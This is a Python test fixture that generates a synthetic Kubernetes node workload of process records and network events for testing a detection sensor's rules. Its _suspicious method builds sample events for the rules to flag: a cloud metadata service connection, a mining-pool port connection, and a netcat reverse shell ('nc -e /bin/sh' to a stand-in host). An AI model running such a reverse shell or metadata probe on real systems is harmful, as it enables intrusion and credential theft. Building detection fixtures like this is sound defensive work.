"""A synthetic, deterministic node workload for recording tests and benchmarks.

It plays the part of the live sensor: a ProcessTable fed with process records, and flat
events built as ``{**table.fields(exec_id), **event_fields}``. The mix resembles a
Kubernetes node: web pods accepting connections and calling backends, DNS over UDP,
health checks (clone, execve, procexit), and a few suspicious actions that the shipped
rules flag (metadata service, mining pool port, netcat).
"""
from __future__ import annotations

import random
from collections import deque
from collections.abc import Iterator
from typing import Any

from rules.event import Event
from sensor.process_table import ProcessRecord, ProcessTable

BOOT = "5f1c2a9e-0000-4000-8000-00000000b007"
T0 = 1_790_000_000_000_000_000  # 2026-09-21T...Z

_PODS = [
    ("shop", "web-7d9f8c-x2k4p", "nginx", "docker.io/library/nginx", "/usr/sbin/nginx"),
    ("shop", "api-5c6d7e-q9w8e", "api", "ghcr.io/acme/api", "/usr/local/bin/python3.12"),
    ("shop", "worker-6f7a8b-z1x2c", "worker", "ghcr.io/acme/worker", "/usr/local/bin/python3.12"),
    ("infra", "coredns-55cc-h4j5k", "coredns", "registry.k8s.io/coredns", "/coredns"),
]


class SyntheticNode:
    """Generates ("process", ProcessRecord) and ("event", dict) in live order."""

    def __init__(self, seed: int = 1, *, suspicious_every: int = 5000) -> None:
        self.rng = random.Random(seed)
        self.table = ProcessTable(exited_retention_ns=3_600_000_000_000, max_exited=200_000)
        self.t = T0
        self.num = 0
        self.next_pid = 1000
        self.suspicious_every = suspicious_every
        self.pods: list[dict[str, Any]] = []
        self._pending: list[tuple[str, Any]] = []
        self._children: deque[ProcessRecord] = deque()
        init = self._proc(1, 0, None, "systemd", "/usr/lib/systemd/systemd", [], "host", {})
        self.init = init
        kubelet = self._proc(800, 1, init.exec_id, "containerd-shim", "/usr/bin/containerd-shim",
                             ["-namespace", "k8s.io"], "host", {})
        for i, (ns, pod, cname, image, exepath) in enumerate(_PODS):
            cid = f"{i + 1:02x}" + "c0ffee" * 2 + "ab"
            meta = {"container.name": cname, "container.image": image + ":1.2",
                    "container.image.repository": image, "k8s.ns.name": ns,
                    "k8s.pod.name": pod, "k8s.pod.uid": f"uid-{i}",
                    "k8s.pod.labels": {"app": pod.split("-")[0]}, "user.name": "app"}
            main = self._proc(self._pid(), kubelet.pid, kubelet.exec_id, exepath.rsplit("/", 1)[1],
                              exepath, ["-c", "/etc/app.conf"], cid[:12], meta)
            self.pods.append({"ns": ns, "pod": pod, "main": main, "cid": cid[:12], "meta": meta,
                              "ip": f"10.244.1.{10 + i}"})

    # -- helpers --------------------------------------------------------------------
    def _pid(self) -> int:
        self.next_pid += 1
        return self.next_pid

    def _proc(self, pid: int, ppid: int, parent: str | None, name: str, exepath: str,
              args: list[str], cid: str, meta: dict[str, Any]) -> ProcessRecord:
        self.t += 1000
        rec = ProcessRecord(exec_id=f"{BOOT[:8]}:{pid}:{self.t}", pid=pid, ppid=ppid,
                            parent_exec_id=parent, name=name[:15], exe=name, exepath=exepath,
                            args=list(args), uid=0 if cid == "host" else 1000,
                            gid=0 if cid == "host" else 1000, cgroup_id=4000 + pid,
                            container_id=cid, start_ns=self.t, meta=dict(meta))
        self.table.add(rec)
        self._pending.append(("process", rec))
        return rec

    def _event(self, rec: ProcessRecord, fields: dict[str, Any]) -> Event:
        self.t += self.rng.randint(2_000, 60_000)
        self.num += 1
        base = {"evt.time": self.t, "evt.num": self.num, "evt.dir": "<", "thread.tid": rec.pid}
        return Event({**self.table.fields(rec.exec_id), **base, **fields})

    @staticmethod
    def _net(kind: str, proto: str, cip: str, cport: int, sip: str, sport: int,
             local_is_client: bool, res: str = "SUCCESS", rawres: int = 0,
             fdnum: int = 7) -> dict[str, Any]:
        lip, lport, rip, rport = ((cip, cport, sip, sport) if local_is_client
                                  else (sip, sport, cip, cport))
        # what the sensor stores: the two ends (fd.cip, fd.sport, fd.name... derive from them)
        ev = {"evt.type": kind, "evt.res": res, "evt.rawres": rawres, "fd.num": fdnum,
              "fd.type": "ipv4", "fd.typechar": "4", "fd.sockfamily": "ip", "fd.l4proto": proto,
              "fd.lip": lip, "fd.lport": lport, "fd.rip": rip, "fd.rport": rport}
        if kind in ("sendto", "sendmsg"):
            ev["fd.connected"] = False
            ev["fd.name_changed"] = True
        else:
            ev["fd.connected"] = res == "SUCCESS"
        return ev

    # -- the stream ---------------------------------------------------------------
    def stream(self, n_events: int) -> Iterator[tuple[str, Any]]:
        """``n_events`` events, each preceded by the process records it needs."""
        rng = self.rng
        for i in range(n_events):
            pod = self.pods[rng.randrange(len(self.pods))]
            main = pod["main"]
            r = rng.random()
            if self.suspicious_every and i % self.suspicious_every == self.suspicious_every - 1:
                ev = self._suspicious(pod, i // self.suspicious_every)
            elif r < 0.30:  # inbound request
                ev = self._event(main, self._net(
                    "accept4", "tcp", f"10.244.2.{rng.randrange(2, 250)}",
                    rng.randrange(32768, 60999), pod["ip"], 8080, False, fdnum=rng.randrange(8, 200)))
            elif r < 0.62:  # call to a backend
                ev = self._event(main, self._net(
                    "connect", "tcp", pod["ip"], rng.randrange(32768, 60999),
                    f"10.96.{rng.randrange(0, 3)}.{rng.randrange(1, 40)}",
                    rng.choice((5432, 6379, 8080, 443)), True, fdnum=rng.randrange(8, 200)))
            elif r < 0.85:  # DNS
                ev = self._event(main, self._net(
                    "sendto", "udp", pod["ip"], rng.randrange(32768, 60999), "10.96.0.10", 53,
                    True, fdnum=rng.randrange(8, 200)))
            elif r < 0.93:  # health check: clone (by the parent), exec, later exit
                pid = self._pid()
                self._pending.append(("event", self._event(main, {
                    "evt.type": "clone", "evt.res": "SUCCESS", "evt.rawres": pid})))
                child = self._proc(pid, main.pid, main.exec_id, "curl", "/usr/bin/curl",
                                   ["-fsS", "http://127.0.0.1:8080/healthz"], pod["cid"],
                                   pod["meta"])
                self._children.append(child)
                ev = self._event(child, {"evt.type": "execve", "evt.res": "SUCCESS",
                                         "evt.rawres": 0})
            elif r < 0.97:  # egress to the internet
                ev = self._event(main, self._net(
                    "connect", "tcp", pod["ip"], rng.randrange(32768, 60999),
                    f"93.184.{rng.randrange(0, 255)}.{rng.randrange(1, 255)}", 443, True,
                    fdnum=rng.randrange(8, 200)))
            else:  # a health-check process exits
                if not self._children:
                    continue
                victim = self._children.popleft()
                ev = self._event(victim, {"evt.type": "procexit", "evt.arg.status": 0,
                                          "evt.arg.sig": 0})
                self.table.exit(victim.pid, ev["evt.time"], 0)
            yield from self._pending
            self._pending.clear()
            yield ("event", ev)

    def _suspicious(self, pod: dict[str, Any], k: int) -> dict[str, Any]:
        main = pod["main"]
        choice = k % 3
        if choice == 0:
            return self._event(main, self._net("connect", "tcp", pod["ip"], 41000 + k,
                                               "169.254.169.254", 80, True))
        if choice == 1:
            return self._event(main, self._net("connect", "tcp", pod["ip"], 42000 + k,
                                               "45.76.1.2", 3333, True))
        sh = self._proc(self._pid(), main.pid, main.exec_id, "nc", "/usr/bin/nc",
                        ["-e", "/bin/sh", "203.0.113.9", "4444"], pod["cid"], pod["meta"])
        return self._event(sh, {"evt.type": "execve", "evt.res": "SUCCESS", "evt.rawres": 0})
